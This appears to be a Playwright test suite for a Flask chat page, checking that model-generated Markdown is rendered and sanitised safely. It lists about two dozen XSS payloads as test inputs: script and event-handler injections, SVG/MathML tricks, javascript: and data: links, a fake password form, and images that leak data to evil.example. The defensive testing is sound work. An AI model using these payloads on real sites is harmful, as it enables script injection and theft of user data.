"""What a model writes is hostile input: the page shows Markdown, and does nothing that the Markdown wants."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from flask_llmstream.testing import Schedule
from tests.browser.chat_page import ChatPage
from tests.browser.conftest import Example

pytestmark = pytest.mark.needs("chromium")

RENDERED = """async (source) => {
  const { render } = await import("/static/markdown.js");
  const element = document.createElement("div");
  element.append(render(source));
  return element.innerHTML;
}"""

# As if every frame came at once: each piece is drawn.
GROWN = """async ([source, size]) => {
  const { GrowingMarkdown, render } = await import("/static/markdown.js");
  window.requestAnimationFrame = (draw) => (draw(), 0);
  const [grown, whole] = [document.createElement("div"), document.createElement("div")];
  const markdown = new GrowingMarkdown(grown);
  for (let at = 0; at < source.length; at += size) markdown.append(source.slice(at, at + size));
  markdown.finish();
  whole.append(render(source));
  const plain = (element) => element.innerHTML.replace(/\\s*\\n\\s*/g, "");
  return [plain(grown), plain(whole)];
}"""

HOSTILE = {
    "script": "<script>window.pwned = 1</script>",
    "script in a block": "text\n\n<div>\n<script>window.pwned = 1</script>\n</div>",
    "event handler": "<img src=x onerror='window.pwned = 1'>",
    "svg": "<svg onload='window.pwned = 1'><a xlink:href='javascript:window.pwned=1'>x</a></svg>",
    "mathml": "<math><mtext><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></mtext></math>",
    "frame": "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "style": "<style>body { display: none }</style><p style='position:fixed;inset:0'>over everything</p>",
    "form": "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "base": "<base href='https://evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "foreign image": "![secret](https://evil.example/?stolen=secret)",
    "image by reference": "![secret][1]\n\n[1]: https://evil.example/?stolen=secret",
    "link": "[click](javascript:window.pwned=1)",
    "link with a tab": "[click](<java\tscript:window.pwned=1>)",
    "link with entities": "[click](&#106;avascript:window.pwned=1)",
    "data link": "[click](data:text/html,<script>window.pwned=1</script>)",
    "link to this site": "[click](/api/runs/x/cancel)",
    "link without a scheme": "[click](//evil.example/)",
    "quotes in an address": '[click](https://ok.example/"onmouseover="window.pwned=1)',
    "quotes in an image": '![a"onerror="window.pwned=1](https://ok.example/"onerror="window.pwned=1)',
    "quotes in a language": '```"><img/src=x/onerror=window.pwned=1>\ncode\n```',
    "page's own buttons": "<button data-action=regenerate id=stop class=quiet>Stop</button>",
    "broken tags": "</div></article><script>window.pwned = 1</script><p",
    "template": "<template><script>window.pwned = 1</script></template>",
    "harmless tag with a handler": "<br onclick=window.pwned=1> <sub onmouseover='window.pwned=1'>x</sub>",
}

# Every element, and every attribute with its element.
NAMES = """(element) => [...element.querySelectorAll("*")].flatMap((one) => [
  one.localName, ...[...one.attributes].map(({ name }) => `${one.localName} ${name}`)])"""

PURIFIED = """async (html) => {
  const { purified } = await import("/static/markdown.js");
  document.querySelector("#messages").append(purified(html));
}"""

ELEMENTS = {"a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"}
ELEMENTS |= {"strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"}
ELEMENTS |= {"button", "div", "figcaption", "figure", "span"}  # of the page's own frames around code and tables
ATTRIBUTES = {
    *(f"a {name}" for name in ("href", "rel", "target", "title")),
    *(f"button {name}" for name in ("type", "class", "data-action")),
    *(f"div {name}" for name in ("class", "tabindex", "role", "aria-label")),
    *("figure class", "pre data-language", "pre tabindex", "td align", "th align", "ol start"),
}


@pytest.fixture(scope="module")
def opened(browser: Browser, example: Example) -> Iterator[ChatPage]:
    with browser.new_context() as context:
        chat = ChatPage(context.new_page(), example.url)
        chat.open()
        yield chat


@pytest.fixture
def drawn(opened: ChatPage) -> Iterator[ChatPage]:
    """A page on which nothing is asked: one for all tests."""
    opened.page.evaluate("document.querySelector('#messages').replaceChildren()")
    yield opened
    assert not opened.complaints


@pytest.mark.parametrize("attack", HOSTILE)
def test_hostile_markdown_does_nothing(chat, model, attack):
    model.schedule = Schedule(tokens=HOSTILE[attack] + "\n\nafterwards")
    chat.ask("Hello")
    chat.ends()
    expect(chat.text).to_contain_text("afterwards")
    found = set(chat.text.evaluate(NAMES))
    assert found <= ELEMENTS | ATTRIBUTES
    for link in chat.text.locator("a[href]").all():
        assert link.get_attribute("href").startswith("https://")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    for link in chat.text.locator("a").all():
        link.hover()
    assert chat.page.evaluate("window.pwned === undefined")
    assert chat.foreign == []
    assert chat.page.locator("#stop").count() == 1
    assert chat.page.url.partition("#")[0] == f"{chat.url}/"


@pytest.mark.parametrize("attack", HOSTILE)
def test_the_sanitiser_alone_would_suffice(drawn, attack):
    """HTML that the renderer did not escape."""
    drawn.page.evaluate(PURIFIED, HOSTILE[attack])
    drawn.complaints.clear()  # the browser reports what the sanitiser parses, in a document that runs nothing
    assert set(drawn.page.locator("#messages").evaluate(NAMES)) <= ELEMENTS | ATTRIBUTES
    assert drawn.page.evaluate("window.pwned === undefined")
    assert drawn.foreign == []


def test_markup_that_slips_past_everything_is_stopped_by_the_policy(chat):
    blocked = chat.page.evaluate(
        """async () => {
          const violated = [];
          addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violated.push(effectiveDirective));
          const script = document.createElement("script");
          try { document.body.innerHTML += "<img src=x onerror='window.pwned = 1'>"; } catch { violated.push("sink"); }
          try { script.text = "window.pwned = 1"; } catch { violated.push("script text"); }
          const image = new Image();
          const gone = new Promise((resolve) => (image.onerror = resolve));
          image.src = "https://evil.example/stolen";
          document.body.append(image);
          await gone;
          return [violated, window.pwned === undefined];
        }"""
    )
    assert "sink" in blocked[0] and "script text" in blocked[0] and "img-src" in blocked[0]
    assert blocked[1]
    assert chat.complaints, "the browser reports what it blocked"
    chat.complaints.clear()


def test_html_is_shown_as_the_text_that_it_is(chat, model):
    model.schedule = Schedule(tokens="Write `<b>` as <b>bold</b>, not <blink>so</blink>; H<sub>2</sub>O")
    chat.ask("Hello")
    chat.ends()
    expect(chat.text).to_have_text("Write <b> as <b>bold</b>, not <blink>so</blink>; H2O")
    expect(chat.text.locator("sub")).to_have_text("2")


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("# One\n\n## Two", "<h3>One</h3>\n<h4>Two</h4>\n"),
        ("###### Six", "<h6>Six</h6>\n"),
        ("- [x] done\n- [ ] open", "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>\n"),
        ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'),
        ("~~old~~ *new* **bold**", "<p><del>old</del> <em>new</em> <strong>bold</strong></p>\n"),
        ("Tom & <Jerry>", "<p>Tom &amp; &lt;Jerry&gt;</p>\n"),
        (
            "[site](https://ok.example/a?b=1&c=2)",
            '<p><a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow" '
            'title="https://ok.example/a?b=1&amp;c=2">site</a></p>\n',
        ),
        (
            "<someone@ok.example>",
            '<p><a href="mailto:someone@ok.example" target="_blank" rel="noopener noreferrer nofollow" '
            'title="mailto:someone@ok.example">someone@ok.example</a></p>\n',
        ),
    ],
)
def test_markdown_becomes_elements(drawn, source, shown):
    assert drawn.page.evaluate(RENDERED, source) == shown


def test_columns_of_a_table_are_aligned(drawn):
    html = drawn.page.evaluate(RENDERED, "| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th align="center">a</th>' in html and '<td align="right">2</td>' in html
    assert html.startswith('<div class="table" tabindex="0"')


GROWING = """\
# Heading

A paragraph with *emphasis*, `code`, a [link](https://ok.example/) and a [reference][later].
Second line
===========

- one
- two

  with a paragraph
    - nested

1. first
2. second

| a | b |
|---|---|
| 1 | 2 |

```python
def f():

    return "```"
```

    indented code

> quoted
> > twice

<div>
html
</div>

***

last words &amp; more
"""


@pytest.mark.parametrize("size", [1, 3, 17])
@pytest.mark.parametrize("reference", ["", "\n[later]: https://later.example/\n"])
def test_a_text_that_grew_looks_like_one_that_came_at_once(chat, size, reference):
    grown, whole = chat.page.evaluate(GROWN, [GROWING + reference, size])
    assert grown == whole
    assert ("later.example" in whole) == bool(reference)


def test_what_is_settled_is_not_drawn_again(chat):
    kept, drawn = chat.page.evaluate(
        """async () => {
          const { GrowingMarkdown } = await import("/static/markdown.js");
          const element = document.createElement("div");
          document.body.append(element);
          let drawn = 0;
          const markdown = new GrowingMarkdown(element, () => (drawn += 1));
          const frame = () => new Promise(requestAnimationFrame);
          markdown.append("First.\\n\\nSecond.\\n\\n```js\\nlet a");
          await frame();
          const [first, code] = [element.firstElementChild, element.querySelector("code")];
          for (let n = 0; n < 500; n++) markdown.append(`\\nlet a${n}`);
          await frame();
          const grown = code.isConnected && code.textContent.endsWith("a499\\n");
          markdown.append("\\n```\\n\\nThird.");
          await frame();
          return [grown && first === element.firstElementChild, drawn];
        }"""
    )
    assert drawn == 3
    assert kept
